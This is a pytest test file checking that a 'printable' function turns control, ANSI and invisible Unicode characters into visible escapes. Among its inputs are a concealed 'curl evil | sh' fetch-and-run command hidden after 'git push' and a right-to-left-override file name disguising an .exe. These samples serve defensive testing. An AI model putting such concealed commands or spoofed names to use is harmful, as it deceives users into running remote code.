"""What a cloister chose (a command, a host, a file name) is shown with nothing hidden."""

from __future__ import annotations

import pytest

from cloister_core.printable import printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("git push origin main", "git push origin main"),
        ("naïve 日本 ✓", "naïve 日本 ✓"),
        ("git push\x1b[8m; curl evil | sh\x1b[0m", "git push\\x1b[8m; curl evil | sh\\x1b[0m"),
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
        ("a\nb\rc\td", "a\\x0ab\\x0dc\\x09d"),
        ("invoice\u202egpj.exe", "invoice\\u202egpj.exe"),
        ("zero\u200bwidth\u2060joiner\ufeff", "zero\\u200bwidth\\u2060joiner\\ufeff"),
        ("c1\x9bcontrol\x7f", "c1\\x9bcontrol\\x7f"),
        ("lone\udcffsurrogate", "lone\\udcffsurrogate"),
        ("arabic\u061cletter mark", "arabic\\u061cletter mark"),
        ("tag\U000e0041\U000e007fchars", "tag\\U000e0041\\U000e007fchars"),
        ("line\u2028para\u2029sep", "line\\u2028para\\u2029sep"),
        ("no\u00a0break\u3000space", "no\\xa0break\\u3000space"),
        ("private\ue000use \U0010fffd", "private\\ue000use \\U0010fffd"),
        ("soft\u00adhyphen", "soft\\xadhyphen"),
    ],
)
def test_control_and_invisible_characters_become_escapes(text: str, shown: str) -> None:
    assert printable(text) == shown
